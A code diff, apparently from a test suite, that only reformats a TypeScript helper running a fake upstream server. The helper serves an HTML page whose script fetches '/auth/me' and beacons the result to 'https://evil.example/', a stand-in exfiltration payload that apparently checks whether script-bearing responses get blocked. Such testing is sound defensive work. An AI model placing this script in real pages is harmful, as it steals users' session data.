@@ -15,7 +15,12 @@ export interface RecordedRequest {
  * A query can shape the answer: `?location=L` adds `Location: L` (status `?status=`, default 302),
  * `?type=T` answers `Content-Type: T` (none for `none`) with an HTML page that tries to run a script.
  */
-export async function startRecordingUpstream(): Promise<{ url: string; requests: RecordedRequest[]; started: string[]; close(): Promise<void> }> {
+export async function startRecordingUpstream(): Promise<{
+  url: string;
+  requests: RecordedRequest[];
+  started: string[];
+  close(): Promise<void>;
+}> {
   const requests: RecordedRequest[] = [];
   const started: string[] = [];
   const server: Server = createServer((req, res) => {
@@ -38,7 +43,9 @@ export async function startRecordingUpstream(): Promise<{ url: string; requests:
       if (type) {
         if (type === 'none') res.removeHeader('Content-Type');
         else res.setHeader('Content-Type', type);
-        res.end('<!doctype html><script>fetch("/auth/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>');
+        res.end(
+          '<!doctype html><script>fetch("/auth/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>',
+        );
         return;
       }
       // A path with "slow" answers after a second: a request still in flight when a test wants one.
